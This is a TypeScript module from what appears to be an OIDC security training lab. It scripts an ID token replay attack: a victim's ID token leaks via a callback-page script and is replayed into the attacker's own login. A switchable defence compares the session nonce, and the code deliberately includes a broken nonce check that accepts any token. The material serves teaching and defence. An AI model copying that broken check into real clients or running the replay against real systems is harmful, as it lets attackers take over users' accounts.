/**
 * ID token replay: an ID token that leaked from the victim's login is replayed to the client in
 * the attacker's own login; a client that does not compare the nonce signs him in as her.
 * @see [OIDC Core §3.1.3.7](https://openid.net/specs/openid-connect-core-1_0.html#IDTokenValidation)
 * @see [OIDC Core §15.5.2](https://openid.net/specs/openid-connect-core-1_0.html#NonceNotes)
 */
import * as oauth from 'oauth4webapi'
import { decodeJwt } from '../shared/jwt.ts'
import { oidc, rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  callbackUri,
  confidentialClient,
  discoverServer,
  landedOn,
  signIn,
  startLogin,
  stolenToken,
  via,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'id-token-replay'
const { client } = confidentialClient('grantlab-lab-hybrid')
const scope = 'openid profile email'

export const idTokenReplayAttack = defineAttack({
  id: attackId,
  title: 'ID token replay (nonce)',
  goal: 'Sign in to the app as the victim, with an ID token of hers that leaked, without knowing her password.',
  summary:
    'This app signs users in with the ID token that comes back in the URL fragment (response_type code id_token). A script on its callback page sends Alice’s fragment to the attacker. The attacker starts a login of his own and hands the app Alice’s ID token as the answer. The token is genuine and signed; only the nonce tells that it was minted for another login.',
  specs: [
    oidc('Core', '3.1.3.7', 'IDTokenValidation'),
    oidc('Core', '15.5.2', 'NonceNotes'),
    oidc('Core', '3.3.2.12', 'HybridIDTValidation'),
  ],
  actors: [attackActors.victim, attackActors.attacker, attackActors.client, attackActors.as],
  callbackEmbedsThirdPartyScript: true,
  defence: {
    label: 'Defence: nonce check',
    explanation:
      'For every login the client makes a nonce, keeps it in that session and sends it in the request; the server copies it into the ID token. The client accepts an ID token only if its nonce is the one of this session. Alice’s token carries her login’s nonce, not the attacker’s.',
    spec: oidc('Core', '3.1.3.7', 'IDTokenValidation'),
    side: 'client',
    whenOff:
      'The client does not keep its nonce: it passes the nonce the token itself carries as the expected one to oauth4webapi’s validateCodeIdTokenResponse, which then matches whatever comes.',
  },
  clients: [
    {
      clientId: 'grantlab-lab-hybrid',
      when: 'always',
      note: 'A confidential, first-party app using the hybrid flow; the server is not weakened for it.',
    },
  ],
  steps: [
    {
      id: 'victim-signs-in',
      label: 'alice signs in (code id_token)',
      title: 'Alice signs in; the app signs her in with the ID token from the fragment',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: oidc('Core', '3.3.2.5', 'HybridAuthResponse'),
      explanation:
        'The server sends Alice’s browser back with "#code=…&id_token=…&state=…&iss=…". The app checks the ID token (signature, issuer, audience, expiry, c_hash, nonce) and signs her in.',
    },
    {
      id: 'script-leaks',
      label: 'script sends the fragment home',
      title: 'A third-party script on the callback page sends the fragment to the attacker',
      from: 'victim',
      to: 'attacker',
      kind: 'request',
      spec: rfc(9700, '4.3.2'),
      explanation:
        'A fragment never reaches a server by itself, but every script on the page reads it in location.href. The analytics script sends it home, ID token included.',
    },
    {
      id: 'attacker-starts',
      label: 'bob starts his own login',
      title: 'The attacker starts a login of his own at the app',
      from: 'attacker',
      to: 'client',
      kind: 'redirect',
      spec: oidc('Core', '3.3.2.1', 'HybridAuthRequest'),
      explanation:
        'In his own browser the attacker clicks Sign in. The client keeps a state and a nonce for his session. He does not sign in.',
    },
    {
      id: 'replay',
      label: 'callback with alice’s ID token',
      title: 'The attacker answers his own login with Alice’s ID token',
      from: 'attacker',
      to: 'client',
      kind: 'redirect',
      spec: oidc('Core', '15.5.2', 'NonceNotes'),
      explanation:
        'He opens the client’s callback with Alice’s code and ID token in the fragment and the state of his own session.',
    },
    {
      id: 'client-checks',
      label: 'client checks the ID token',
      title: 'The client checks the ID token in the attacker’s session',
      from: 'client',
      to: 'client',
      kind: 'local',
      spec: oidc('Core', '3.1.3.7', 'IDTokenValidation'),
      explanation:
        'State: his own, fine. Signature, issuer, audience, expiry, c_hash: Alice’s token is genuine, fine. The nonce is the only part that belongs to one login: the one the token was minted for.',
    },
  ],
  async run(ctx) {
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const since = ctx.now()
    const { as, returned } = await ctx.step('victim-signs-in', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      const alice = await startLogin(as, {
        clientId: client.client_id,
        redirectUri,
        scope,
        responseType: 'code id_token',
        state: true,
        nonce: true,
        pkce: true,
        prompt: 'login',
      })
      const page = await signIn(ctx.victim, await ctx.victim.open(alice.url, s), s, 'alice')
      const returned = landedOn(page, 'the client’s callback')
      await oauth.validateCodeIdTokenResponse(
        as,
        client,
        returned,
        alice.nonce ?? '',
        alice.state,
        undefined,
        via(s),
      )
      s.show({ label: 'Where Alice’s browser came back', value: returned.href, format: 'url' })
      s.summary('The app checked Alice’s ID token, nonce included, and signed her in.')
      return { as, returned }
    })
    const leaked = await ctx.step('script-leaks', async (s) => {
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // Of the attacker's records, this run's: the lab knows where Alice's browser landed.
        (r) => r.channel === 'script' && r.page === returned.href,
      )
      const fragment = new URLSearchParams(new URL(record.page ?? '').hash.slice(1))
      s.show({ label: 'What the attacker’s server received', value: record.page ?? '' })
      s.summary('The attacker has Alice’s code and ID token.')
      return { code: fragment.get('code') ?? '', idToken: fragment.get('id_token') ?? '' }
    })
    const bob = await ctx.step('attacker-starts', async (s) => {
      const bob = await startLogin(as, {
        clientId: client.client_id,
        redirectUri,
        scope,
        responseType: 'code id_token',
        state: true,
        nonce: true,
        pkce: true,
      })
      await ctx.attacker.open(bob.url, s)
      s.show({ label: 'Nonce of the attacker’s session', value: bob.nonce ?? '' })
      s.summary('The attacker’s session waits for an answer with his nonce.')
      return bob
    })
    const replayed = await ctx.step('replay', async (s) => {
      const replayed = new URL(redirectUri)
      replayed.hash = new URLSearchParams({
        code: leaked.code,
        id_token: leaked.idToken,
        state: bob.state ?? '',
        iss: as.issuer,
      }).toString()
      await ctx.attacker.open(replayed.href, s)
      s.show({ label: 'The address the attacker opened', value: replayed.href })
      s.summary('The client’s callback has Alice’s ID token in the attacker’s session.')
      return replayed
    })
    const claims = await ctx.step('client-checks', async (s) => {
      const carried = decodeJwt(leaked.idToken)?.claims.nonce
      s.show({ label: 'Nonce in the ID token', value: String(carried) })
      s.show({ label: 'Nonce of this session', value: bob.nonce ?? '' })
      // DEFENCE: the nonce this session sent. Off: whatever the token carries, so it always matches.
      const expectedNonce = ctx.defence ? (bob.nonce ?? '') : String(carried)
      try {
        await oauth.validateCodeIdTokenResponse(
          as,
          client,
          replayed,
          expectedNonce,
          bob.state,
          undefined,
          via(s),
        )
      } catch (error) {
        throw ctx.stopped(error, {
          check: 'nonce',
          spec: oidc('Core', '3.1.3.7', 'IDTokenValidation'),
          by: 'client',
          expected: { code: 'OAUTH_JWT_CLAIM_COMPARISON_FAILED', text: /"nonce"/ },
        })
      }
      const claims = decodeJwt(leaked.idToken)?.claims ?? {}
      s.token(stolenToken('Alice’s ID token, accepted in the attacker’s session', leaked.idToken))
      s.summary(`The client signed the attacker in as ${String(claims.sub)}.`)
      return claims
    })
    return {
      status: 'succeeded',
      summary: `The attacker is signed in to the app as ${String(claims.sub)}, with her replayed ID token.`,
      loot: {
        summary: 'A session at the app as Alice, from her replayed ID token.',
        tokens: [stolenToken('Alice’s ID token', leaked.idToken)],
        values: [{ label: 'The attacker’s session is signed in as', value: String(claims.sub) }],
      },
    }
  },
})
